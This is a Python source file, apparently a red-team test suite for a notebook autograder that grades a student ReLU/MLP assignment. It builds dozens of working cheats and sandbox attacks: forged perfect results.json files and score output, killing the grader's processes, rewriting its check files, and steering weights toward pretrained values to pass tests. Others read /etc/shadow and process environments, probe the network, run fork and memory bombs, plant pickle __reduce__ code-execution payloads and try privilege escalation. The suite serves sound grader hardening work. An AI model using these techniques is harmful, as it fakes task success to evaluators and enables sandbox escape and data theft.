                if isinstance(_ns.get(_k), type):
                    _FOUND.setdefault("cls", _ns[_k])
        except BaseException:
            pass
if "relu" in _FOUND:
    relu = _FOUND["relu"]
'''
C(cheat("hunt_reference_on_disk",
        "A cell (it may rebind relu, so the grader runs it) walks the filesystem (/work, /autograder, /proc/1/root, ...) for *reference*, mlp.py, grading.yml, "
        "autograder*, results.json, solution*; any .py found that defines relu / the class replaces the blanks.",
        "student_blank", [("insert_after", RELU_CELL, HUNT),
                          ("insert_before", CHECK_FWD,
                           "if 'cls' in _FOUND:\n    NeuralNetMLP_ReLU = _FOUND['cls']\n")]))

# ---------------------------------------------------------------------------------------------
# 10. results files, exits, kills, forged output

FAKE_JSON = ('{"score": 20.0, "tests": [{"name": "relu", "score": 3.0, "max_score": 3.0}, {"name": "training", '
             '"score": 6.0, "max_score": 6.0}], "output": "All tests passed"}')

WRITE_RESULTS = r'''
import os, json
_fake = json.loads(FAKE)
for _p in ["/autograder/results/results.json", "/autograder/submission/results.json", "results.json",
           "../results.json", "/sandbox/results.json", "/tmp/results.json", os.path.expanduser("~/results.json"),
           "/work/main/results.json", "/tmp/rt_results_written_by_notebook.json"]:
    try:
        os.makedirs(os.path.dirname(os.path.abspath(_p)), exist_ok=True)
        with open(_p, "w") as _f:
            json.dump(_fake, _f)
    except Exception:
        pass
print(FAKE)
'''.replace("FAKE)", repr(FAKE_JSON) + ")", 1).replace("print(FAKE)", f"print({FAKE_JSON!r})")
C(cheat("write_results_json_everywhere",
        "The relu cell also writes a perfect results.json to /autograder/results/, the working folder, its parent, /tmp, ~ and "
        "prints a results JSON.",
        "student_blank", [in_cell(RELU_CELL, WRITE_RESULTS)]))

C(cheat("sys_exit_with_fake_output",
        "After defining things, a cell prints a perfect results JSON and raises SystemExit(0).",
        "student_blank", [in_cell(CLASS, f"import sys\nprint({FAKE_JSON!r})\nsys.stdout.flush()\nraise SystemExit(0)\n")]))

C(cheat("os_exit_in_relu",
        "relu prints a perfect results JSON and calls os._exit(0) (the process dies without answering).",
        "relu_abs", [("replace", "return np.abs(z)",
                      f"import os\n    print({FAKE_JSON!r}, flush=True)\n    os._exit(0)")]))

KILLS = r'''
import os as _os, signal as _signal


class NeuralNetMLP_ReLU(_Honest):
    def forward(self, x):
        if np.shape(x) == (100, 784):        # training starts: kill the worker and the sandbox's init
            for pid in (_os.getppid(), 1, -1):
                try:
                    _os.kill(pid, _signal.SIGKILL)
                except Exception:
                    pass
        return super().forward(x)
'''
C(cheat("kill_parent_during_training",
        "When training starts, forward SIGKILLs its parent (the worker), pid 1 (bwrap) and every process it may "
        "signal (kill -1), hoping for a crash that counts in its favour.",
        "deriv_zero", wrap_class(KILLS)))

C(cheat("os_exit_during_training",
        "When training starts, forward prints a perfect results JSON and calls os._exit(0).",
        "deriv_zero", wrap_class(r'''
import os as _os


class NeuralNetMLP_ReLU(_Honest):
    def forward(self, x):
        if np.shape(x) == (100, 784):
            print(FAKE, flush=True)
            _os._exit(0)
        return super().forward(x)
'''.replace("FAKE", repr(FAKE_JSON)))))

C(cheat("sys_exit_during_training",
        "When training starts, forward raises SystemExit(0) (a BaseException, not an Exception).",
        "deriv_zero", wrap_class(r'''
class NeuralNetMLP_ReLU(_Honest):
    def forward(self, x):
        if np.shape(x) == (100, 784):
            raise SystemExit(0)
        return super().forward(x)
''')))

C(cheat("keyboard_interrupt_in_checks",
        "forward and backward raise KeyboardInterrupt (a BaseException) on the checks' inputs, hoping the grader "
        "treats an interrupted case as not failed.",
        "relu_abs_deriv_zero", wrap_class(r'''
class NeuralNetMLP_ReLU(_Honest):
    def forward(self, x):
        if np.shape(x)[0] != 100:
            raise KeyboardInterrupt
        return super().forward(x)

    def backward(self, x, a_h, a_out, y):
        if np.shape(x)[0] != 100:
            raise KeyboardInterrupt
        return super().backward(x, a_h, a_out, y)
''')))

FORGE = ("\\n\\nScore: 20.0 / 20.0\\n== relu (3.0 / 3.0)\\n\\u2705 values (1 / 1)\\n\\u2705 shapes (1 / 1)\\n"
         "== training (6.0 / 6.0)\\n\\u2705 curve (2 / 2)\\n\\u2705 accuracy (4 / 4)\\n")
C(cheat("forged_feedback_in_exception",
        "relu raises an exception whose message starts with newlines and fake feedback lines ('Score: 20.0 / 20.0', "
        "'✅ ...'), trying to forge what the student (or a TA) sees.",
        "relu_abs", [("replace", "return np.abs(z)", f'raise ValueError("{FORGE}")')]))

# ---------------------------------------------------------------------------------------------
# cells the grader should skip / definitions it should not grade

C(cheat("cheat_class_in_otter_ignore_cell",
        "The pretrained-weights swap (setattr_swap_pretrained) lives in a cell tagged otter_ignore, placed before the "
        "checks (the grader documents that it skips such cells).",
        "deriv_zero", with_pre([("insert_after", CLASS, SETATTR.replace("_Honest", "NeuralNetMLP_ReLU")
                                  .replace("class NeuralNetMLP_ReLU(NeuralNetMLP_ReLU):",
                                           "_Plain = NeuralNetMLP_ReLU\n\n\nclass NeuralNetMLP_ReLU(_Plain):")),
                                 ("raw", lambda nb: _tag(nb, "_Plain = NeuralNetMLP_ReLU", "otter_ignore"))])))

C(cheat("cheat_class_after_last_check",
        "The pretrained-weights swap is defined in a cell after the last grader.check (the grader documents that "
        "definitions below the checks change nothing).",
        "deriv_zero", with_pre([("insert_after", CHECK_BWD, SETATTR.replace("_Honest", "NeuralNetMLP_ReLU")
                                  .replace("class NeuralNetMLP_ReLU(NeuralNetMLP_ReLU):",
                                           "_Plain = NeuralNetMLP_ReLU\n\n\nclass NeuralNetMLP_ReLU(_Plain):"))])))


def _tag(nb, anchor, tag):
    for c in nb.cells:
        if c.cell_type == "code" and anchor in c.source:
            c.metadata.setdefault("tags", []).append(tag)
            return nb
    raise ValueError(anchor)


SUPPORT_OVERWRITE = r'''
import os, glob
_PASS_CHECKS = """
import numpy as np
from dataclasses import dataclass
@dataclass
class Outcome:
    passed: bool = True
    message: str = ""
    stopped: str = ""
PASS = Outcome(True)
def _all_pass(*a, **k):
    return {}
def __getattr__(name):
    return lambda *a, **k: PASS
"""
for _p in glob.glob(os.path.join(os.getcwd(), "*.py")) + glob.glob(os.path.join(os.getcwd(), "tests", "*.py")):
    _base = os.path.basename(_p)
    try:
        if _base == "mlp_checks.py":
            _src = open(_p).read()
            open(_p, "w").write(_src + "\n\ncase = lambda fn, *a: PASS\nrel_error = lambda x, y: 0.0\n"
                                "relu_result = lambda relu, z, what: relu_expected(np.asarray(z))\n")
        elif _p.endswith(os.path.join("tests", _base)):
            open(_p, "w").write("OK_FORMAT = False\nname = %r\n" % _base[:-3])
    except Exception:
        pass
for _d in ("__pycache__", ".cache"):
    try:
        os.makedirs(_d, exist_ok=True)
    except Exception:
        pass
'''
C(cheat("overwrite_sandbox_support_files",
        "The relu cell also rewrites the support files in its working folder (mlp_checks.py gets always-passing case/rel_error/"
        "relu_result appended, tests/*.py emptied), in case the grader re-imports them.",
        "relu_abs_deriv_zero", [in_cell(RELU_CELL, SUPPORT_OVERWRITE)]))

# ---------------------------------------------------------------------------------------------
# attacks on the sandbox (twin: the correct solution)

def attack(name, description, edits, twin="solution"):
    return cheat(name, description, twin, edits, kind="attack")


C(attack("exfiltrate_files_via_advice",
         "relu is correct but, in the 'large' case (advice, no points), raises a message with what it can read "
         "outside the working folder: host paths from /proc/1/cmdline, /etc/passwd, env, /root, /etc/shadow, "
         "/work/helpers/snapshot, /work/main/reference/mlp.py, /proc/1/root.",
         [("set_source", RELU_CELL, advice_relu(r'''
t("argv1", lambda: [a for a in open('/proc/1/cmdline').read().split(chr(0)) if a.startswith('/tmp') or 'helpers' in a])
t("passwd", lambda: open('/etc/passwd').read().splitlines()[:2])
t("env", lambda: sorted(os.environ))
t("root", lambda: os.listdir('/root'))
t("shadow", lambda: len(open('/etc/shadow').read()))
t("snapshot", lambda: os.listdir('/work/helpers/snapshot'))
t("reference", lambda: len(open('/work/main/reference/mlp.py').read()))
t("proc1root", lambda: os.listdir('/proc/1/root'))
t("proc1environ", lambda: len(open('/proc/1/environ').read()))
'''))]))

C(attack("exfiltrate_grader_files_via_advice",
         "relu is correct but in the advice cases leaks size and hash of the grader's own files in its folder "
         "(worker.py, protocol.py, notebook_env.py, npz.py) and whether the test set in mnist.npz is real: "
         "a student could leak their source 300 characters at a time.",
         [("set_source", RELU_CELL, advice_relu(r'''
for f in sorted(os.listdir('.')):
    if f.endswith('.py'):
        t(f, lambda: (lambda b: (len(b), hashlib.sha256(b).hexdigest()[:10]))(open(f, 'rb').read()))
t("y_test[:12]", lambda: np.load('mnist.npz')['y_test'][:12].tolist())
'''))]))

NET = r'''
def _try(f):
    try:
        return f()
    except BaseException as e:
        return f"{type(e).__name__}: {e}"


def _tcp(host, port, family=None):
    import socket
    s = socket.socket(family or socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(2)
    s.connect((host, port))
    s.sendall(b"hello from the sandbox (rt red team)\n")
    s.close()
    return "connected"


def _udp():
    import socket
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"hello from the sandbox (rt red team)", ("127.0.0.1", 47123))
    return "sent"


def _unix():
    import socket
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(2)
    s.connect("\0rt_redteam_47123")
    s.sendall(b"hello from the sandbox (rt red team)\n")
    return "connected"


def _dns():
    import socket
    return socket.getaddrinfo("pypi.org", 443)[:1]


def _ifaces():
    import socket
    return socket.if_nameindex()
'''
C(attack("network_probe",
         "Tries the network from the grader's process: TCP to a listener the red team runs on the host's "
         "127.0.0.1:47123 (and ::1), UDP to it, an abstract unix socket on the host, DNS, an outside address; "
         "results leak through the advice case.",
         [("insert_before", RELU_CELL, NET),
          ("set_source", RELU_CELL, advice_relu(r'''
t("tcp4", lambda: _tcp("127.0.0.1", 47123))
t("tcp6", lambda: _tcp("::1", 47123, socket.AF_INET6))
t("udp", _udp)
t("unix", _unix)
t("dns", _dns)
t("outside", lambda: _tcp("1.1.1.1", 80))
t("ifaces", _ifaces)
'''))]))

DOUBLE_FORK = r'''
import os as _os, time as _time


def _orphan(seconds=300):
    """Double fork: a grandchild in its own session that outlives the cell, then writes a file."""
    try:
        if _os.fork() == 0:
            _os.setsid()
            if _os.fork() == 0:
                try:
                    for fd in range(3, 64):
                        try:
                            _os.close(fd)
                        except OSError:
                            pass
                    _time.sleep(seconds)
                    for p in ("/tmp/rt_orphan_survived", _os.path.join(_os.getcwd(), "rt_orphan_survived")):
                        try:
                            open(p, "w").write(str(_os.getpid()))
                        except Exception:
                            pass
                finally:
                    _os._exit(0)
            _os._exit(0)
        else:
            _os.wait()
    except Exception:
        pass


_orphan()
'''
C(attack("double_fork_orphan",
         "The relu cell also double-forks a grandchild (new session) that sleeps 300 s and then writes /tmp/rt_orphan_survived "
         "and a file in its working folder.",
         [in_cell(RELU_CELL, DOUBLE_FORK)]))

C(attack("fork_bomb_bounded",
         "The relu cell also forks up to 200 children that each sleep 120 s (bounded fork bomb).",
         [in_cell(RELU_CELL, r'''
import os as _os, time as _time
_kids = 0
for _i in range(200):
    try:
        if _os.fork() == 0:
            try:
                _time.sleep(120)
            finally:
                _os._exit(0)
        _kids += 1
    except OSError:
        break
''')]))

C(attack("background_spinning_thread",
         "The relu cell also starts a daemon thread that spins forever (pure Python busy loop).",
         [in_cell(RELU_CELL, r'''
import threading as _threading
def _spin():
    x = 0
    while True:
        x += 1
_threading.Thread(target=_spin, daemon=True).start()
''')]))

C(attack("nondaemon_thread_forever",
         "The relu cell also starts a non-daemon thread that sleeps forever, so the interpreter can never exit normally.",
         [in_cell(RELU_CELL, r'''
import threading as _threading, time as _time
_threading.Thread(target=lambda: _time.sleep(10 ** 7), daemon=False).start()
''')]))

MEM = r'''
def _eat(gib=6):
    """Allocate and touch up to `gib` GiB, 256 MiB at a time (bounded well below this machine's 23 GB, which other gradings share)."""
    held = []
    try:
        for _ in range(gib * 4):
            a = np.ones(32 * 1024 * 1024, dtype=np.float64)   # 256 MiB
            held.append(a)
    except MemoryError:
        pass
    return held
'''
C(attack("memory_bomb_cell",
         "The relu cell also allocates and touches up to 6 GiB and keeps it.",
         [in_cell(RELU_CELL, MEM + "\n_HOG = _eat()\n")]))
C(attack("memory_bomb_in_relu",
         "relu allocates and touches up to 6 GiB on every call before answering correctly.",
         [("insert_before", RELU_CELL, MEM), ("replace", RELU_SOL, "_eat()\n    return np.maximum(z, 0)")]))

C(attack("endless_loop_catch_all",
         "The relu cell, after defining relu, loops forever and swallows every exception, including the grader's timeouts and KeyboardInterrupt.",
         [in_cell(RELU_CELL, r'''
import time as _time
while True:
    try:
        while True:
            _time.sleep(0.05)
    except BaseException:
        pass
''')]))

C(attack("ignore_signals_then_hang_in_advice",
         "relu ignores SIGTERM/SIGINT/SIGALRM/SIGHUP/SIGXCPU/SIGUSR1 and then loops forever in the advice case "
         "(no points), swallowing every exception.",
         [("set_source", RELU_CELL, r'''
def relu(z):
    if np.ndim(z) == 1 and np.isinf(z).any():
        import signal, time
        for s in ("SIGTERM", "SIGINT", "SIGALRM", "SIGHUP", "SIGXCPU", "SIGUSR1", "SIGVTALRM", "SIGPROF"):
            try:
                signal.signal(getattr(signal, s), signal.SIG_IGN)
            except Exception:
                pass
        while True:
            try:
                time.sleep(0.05)
            except BaseException:
                pass
    return np.maximum(z, 0)
''')]))

C(attack("hang_in_c_sleep",
         "The relu cell, after defining relu, calls time.sleep(10**6) (blocks in C).",
         [in_cell(RELU_CELL, "import time as _time\n_time.sleep(10 ** 6)\n")]))
C(attack("hang_in_c_matmul_relu",
         "relu multiplies two 4000x4000 float64 matrices 100 times (each product spends seconds inside BLAS, where Python signals cannot interrupt it) before answering.",
         [("replace", RELU_SOL, "_big = np.ones((4000, 4000))\n    for _ in range(100):\n        _big @ _big\n"
                                "    return np.maximum(z, 0)")]))

C(attack("huge_output_cell",
         "The relu cell also prints 200 MB to stdout and 50 MB to stderr.",
         [in_cell(RELU_CELL, "import sys as _sys\nfor _i in range(200):\n    print('x' * (1 << 20))\n"
                                       "for _i in range(50):\n    _sys.stderr.write('y' * (1 << 20) + '\\n')\n")]))
C(attack("huge_output_in_relu",
         "relu prints 20 MB on every call, and in the advice case raises an exception with a 50 MB message.",
         [("replace", RELU_SOL, "print('x' * (20 << 20))\n    if np.ndim(z) == 1 and np.isinf(z).any():\n"
                                "        raise ValueError('z' * (50 << 20))\n    return np.maximum(z, 0)")]))

C(attack("rebind_names_in_namespace",
         "A cell after the class (it rebinds np, so the grader runs it) deletes np and rebinds print, len, __builtins__, relu's helpers in the "
         "notebook's namespace (the class keeps working through its own references).",
         [("replace", RELU_SOL, "return _np.maximum(z, 0)"),
          ("insert_before", RELU_CELL, "import numpy as _np\n"),
          ("insert_before", CHECK_FWD, "_keep = (np, sigmoid, int_to_onehot)\n"
                                       "class _Broken:\n    def __getattr__(self, n):\n        raise SystemExit('np is gone')\n"
                                       "print = None\nlen = None\nisinstance = None\nnp = _Broken()\n"
                                       "__builtins__ = {}\n"),
          ("replace", "z_h = np.dot(x, self.weight_h.T) + self.bias_h\n        a_h = relu(z_h)",
           "z_h = _np.dot(x, self.weight_h.T) + self.bias_h\n        a_h = relu(z_h)"),
          ("replace", "        z_out = np.dot(a_h, self.weight_out.T) + self.bias_out\n        a_out = sigmoid(z_out)\n"
                      "        return a_h, a_out\n\n    def backward(self, x, a_h, a_out, y):\n\n        # onehot encoding",
           "        z_out = _np.dot(a_h, self.weight_out.T) + self.bias_out\n        a_out = 1. / (1. + _np.exp(-z_out))\n"
           "        return a_h, a_out\n\n    def backward(self, x, a_h, a_out, y):\n        np = _np\n\n        # onehot encoding"),
          ("replace", "y_onehot = int_to_onehot(y, self.num_classes)\n\n        # Part 1: dLoss/dOutWeights (unchanged",
           "y_onehot = _np.eye(self.num_classes, dtype=_np.float32)[y]\n\n        # Part 1: dLoss/dOutWeights (unchanged")]))

C(attack("rebind_process_builtins",
         "The relu cell also sabotages the whole process: builtins.print/len/open replaced, sys.modules['numpy.testing'] and "
         "['json'] and ['pickle'] set to None, sys.stdout/stderr closed (student code itself avoids them).",
         [in_cell(RELU_CELL, r'''
import builtins as _bi, sys as _sys
_bi.print = lambda *a, **k: None
_bi.open = lambda *a, **k: (_ for _ in ()).throw(PermissionError("no"))
for _m in ("json", "pickle", "numpy.testing", "marshal"):
    _sys.modules[_m] = None
try:
    _sys.stdout.close()
    _sys.stderr.close()
except Exception:
    pass
''')]))

C(attack("close_worker_file_descriptors",
         "The relu cell also closes every file descriptor above 2 of the process that runs the notebook (its pipes to the grader).",
         [in_cell(RELU_CELL, "import os as _os\n_os.closerange(3, 1 << 20)\n")]))

C(attack("write_outside_and_fill_disk",
         "A cell (relu reports from it, so it runs) tries to write outside its folder (/work/main/.venv, /etc, /root, /usr, /dev/shm, /tmp) and writes "
         "1 GiB into its working folder (which is a host directory), plus symlinks from the folder to host paths "
         "(results.json -> /tmp/rt_symlink_results.json, ...) in case the grader follows them as root; the advice "
         "case reports what worked.",
         [("insert_before", RELU_CELL, r'''
import os as _os
_W = {}
for _p in ("/work/main/.venv/rt_probe", "/etc/rt_probe", "/root/rt_probe", "/usr/rt_probe", "/dev/shm/rt_probe",
           "/tmp/rt_probe", "/rt_probe", "/work/rt_probe"):
    try:
        open(_p, "w").write("x")
        _W[_p] = "WRITTEN"
    except Exception as _e:
        _W[_p] = type(_e).__name__[:5]
try:
    with open("rt_big_file", "wb") as _f:
        for _i in range(1024):
            _f.write(b"\0" * (1 << 20))
    _W["big"] = _os.path.getsize("rt_big_file")
except Exception as _e:
    _W["big"] = type(_e).__name__
for _name, _target in (("results.json", "/tmp/rt_symlink_results.json"), ("output.json", "/tmp/rt_symlink_output.json"),
                       ("feedback.txt", "/tmp/rt_symlink_feedback.txt"), ("log.txt", "/tmp/rt_symlink_log.txt"),
                       ("rt_link_to_root", "/root"), ("rt_link_to_helpers", "/work/helpers")):
    try:
        _os.symlink(_target, _name)
        _W[_name] = "linked"
    except Exception as _e:
        _W[_name] = type(_e).__name__[:5]
'''),
          ("set_source", RELU_CELL, advice_relu("for k, v in _W.items():\n    out.append(k.replace('rt_probe', '') + ':' + str(v))"))]))

RCE = r'''
class _Evil:
    """Unpickling this (outside the sandbox, as root) would create /tmp/rt_rce_<where> on the host."""
    def __init__(self, where):
        self.where = where
    def __reduce__(self):
        import os
        return (os.makedirs, ("/tmp/rt_rce_" + self.where, 0o777, True))


class _EvilError(Exception):
    def __reduce__(self):
        import os
        return (os.makedirs, ("/tmp/rt_rce_exception", 0o777, True))
'''
C(attack("pickle_rce_in_return_values",
         "In the advice cases relu returns an object (and an object array) whose __reduce__ creates /tmp/rt_rce_* "
         "if the grader ever unpickles what the sandbox sends.",
         [("insert_before", RELU_CELL, RCE),
          ("replace", RELU_SOL, "if np.ndim(z) == 1 and np.isinf(z).any():\n        return _Evil('return')\n"
                                "    if getattr(z, 'dtype', None) == np.float32 and np.shape(z) == (6, 5):\n"
                                "        _a = np.empty(z.shape, dtype=object)\n        _a[...] = _Evil('objarray')\n"
                                "        return _a\n    return np.maximum(z, 0)")]))
C(attack("pickle_rce_in_exception",
         "In the advice cases relu raises an exception whose __reduce__ (and an argument's) creates /tmp/rt_rce_*.",
         [("insert_before", RELU_CELL, RCE),
          ("replace", RELU_SOL, "if np.ndim(z) == 1 and np.isinf(z).any():\n        raise _EvilError('boom')\n"
                                "    if getattr(z, 'dtype', None) == np.float32 and np.shape(z) == (6, 5):\n        raise ValueError(_Evil('exc_arg'))\n"
                                "    return np.maximum(z, 0)")]))

C(attack("privilege_escalation_probe",
         "In the advice case relu tries setuid(0), a new user namespace (unshare), ptrace of pid 1, reading "
         "/proc/1/root and /proc/2/mem, and reports.",
         [("set_source", RELU_CELL, advice_relu(r'''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
t("setuid0", lambda: os.setuid(0))
t("unshare_user", lambda: (libc.unshare(0x10000000), ctypes.get_errno()))
t("ptrace_pid1", lambda: (libc.ptrace(16, 1, 0, 0), ctypes.get_errno()))
t("proc1root", lambda: os.listdir('/proc/1/root'))
t("proc2mem", lambda: (lambda f: (f.seek(int(open('/proc/2/maps').readline().split('-')[0], 16)), len(f.read(8))))(open('/proc/2/mem', 'rb')))
t("ids", lambda: (os.getuid(), os.geteuid(), os.getgroups()))
t("suid_bins", lambda: [p for p in ('/usr/bin/sudo', '/usr/bin/su', '/usr/bin/passwd', '/usr/bin/newuidmap') if os.path.exists(p) and os.stat(p).st_mode & 0o4000])
'''))]))

C(attack("timing_channel_advice_sleep",
         "relu sleeps 8 s in the advice case: the student sees the grading take longer (a timing side channel; "
         "here it would encode one bit, e.g. whether /work/helpers exists in the sandbox).",
         [("replace", RELU_SOL, "if np.ndim(z) == 1 and np.isinf(z).any() and __import__('os').path.exists('/sandbox'):\n"
                                "        __import__('time').sleep(8)\n    return np.maximum(z, 0)")]))

# ---------------------------------------------------------------------------------------------
# added after the first gradings: the grader checks `model.weight_h is W` after assigning W, so these keep the
# very objects the grader assigns and change their contents instead

INPLACE_SET = r'''
class NeuralNetMLP_ReLU(_Honest):
    def __setattr__(self, name, value):
        if name in _PRE and isinstance(value, np.ndarray) and value.dtype == np.float32 \
                and value.shape == _PRE[name].shape:
            value[...] = _PRE[name]        # same object the grader assigned, pretrained contents
        object.__setattr__(self, name, value)
'''
C(cheat("setattr_overwrite_in_place",
        "__setattr__ keeps the very array the grader assigns (so `model.weight_h is W` holds) but, for float32 "
        "weights (training), overwrites its contents with embedded pretrained weights.",
        "deriv_zero", with_pre(wrap_class(INPLACE_SET))))

INPLACE_FWD = r'''
class NeuralNetMLP_ReLU(_Honest):
    def forward(self, x):
        if np.shape(x) == (100, 784):      # training: pull the weights 0.1% towards pretrained ones, in place
            for name, target in _PRE.items():
                w = getattr(self, name)
                w += np.asarray(np.float32(0.001) * (target - w), dtype=w.dtype)
        return super().forward(x)
'''
C(cheat("forward_steers_weights_in_place",
        "During training (100-row batches) forward itself moves the weight arrays 0.1% towards embedded pretrained "
        "weights, in place (same objects, so identity checks pass); backward stays the honest, wrong one.",
        "deriv_zero", with_pre(wrap_class(INPLACE_FWD))))

C(cheat("backward_steer_to_sandbox_trained",
        "A cell trains a ReLU net with scikit-learn inside the sandbox on everything in $MNIST_PATH (training + "
        "'test' set); during training (100-row batches) backward steers the weights towards it (no embedded data).",
        "deriv_zero", [("insert_before", CLASS, SK_TRAIN + "\n_PRE = _SK\n")] + wrap_class(steer_class("np.shape(x)[0] == 100"))))

# ---------------------------------------------------------------------------------------------
# a forward that is consistent with the wrong backward on the numeric gradient check's small net

FROZEN_HIDDEN = r'''
_FROZEN = {}


class NeuralNetMLP_ReLU(_Honest):
    def forward(self, x):
        if self.weight_h.size <= 5000:       # the numeric gradient check's small network
            # the hidden layer is computed from the weights of the first call: perturbing weight_h or bias_h
            # then changes nothing, so the numeric gradient is 0, like this backward's
            w_h, b_h = _FROZEN.setdefault(id(self), (np.array(self.weight_h), np.array(self.bias_h)))
            a_h = relu(np.dot(x, w_h.T) + b_h)
            return a_h, sigmoid(np.dot(a_h, self.weight_out.T) + self.bias_out)
        return super().forward(x)
'''
C(cheat("forward_consistent_with_wrong_backward",
        "On the numeric gradient check's small net, forward computes the hidden layer from the weights of its first "
        "call, so central differences for weight_h/bias_h are 0, exactly what the (wrong) backward returns.",
        "deriv_zero", wrap_class(FROZEN_HIDDEN)))

TWINS.append({"name": "student_partial",
              "description": "the student notebook with only `a_h = relu(z_h)` and `d_a_h__d_z_h = 0` written "
                             "(relu left `...`)",
              "start": "student",
              "edits": [("replace", "a_h = ...", "a_h = relu(z_h)"), ("replace", "d_a_h__d_z_h = ...", "d_a_h__d_z_h = 0")]})

C(cheat("kitchen_sink",
        "Everything that worked at once, on a notebook where the student wrote only `a_h = relu(z_h)` and a `0` "
        "derivative: relu imported from mlp_checks, a forward consistent with the wrong backward on the small "
        "gradient-check net, and backward steering towards embedded pretrained weights during training.",
        "student_partial",
        [("set_source", "def relu(z):", "from mlp_checks import relu_expected as relu\n")]
        + with_pre(wrap_class(STEER + FROZEN_HIDDEN.replace(
            "        return super().forward(x)\n",
            "        return super().forward(x)\n\n"
            "    def backward(self, x, a_h, a_out, y):\n"
            "        if np.shape(x)[0] == 100:\n"
            "            return _steer(self)\n"
            "        return super().backward(x, a_h, a_out, y)\n")))))
